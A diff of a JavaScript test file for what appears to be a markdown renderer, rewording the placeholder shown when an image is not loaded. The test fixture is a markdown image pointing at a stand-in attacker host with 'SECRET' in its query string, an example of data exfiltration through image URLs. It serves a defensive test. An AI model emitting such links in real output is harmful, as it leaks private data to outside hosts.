@@ -180,7 +180,7 @@ test('raw HTML is shown as text', async () => {
 
 test('an image is a placeholder that names its host', async () => {
   const container = await whole('![A **map**](https://evil.test/map.png?q=SECRET)');
-  expect(container.querySelector('.picture')?.textContent).toBe('Picture not fetched: A **map** (evil.test)');
+  expect(container.querySelector('.picture')?.textContent).toBe('Image not loaded: A **map** (evil.test)');
 });
 
 test('an image with a data URL is shown', async () => {
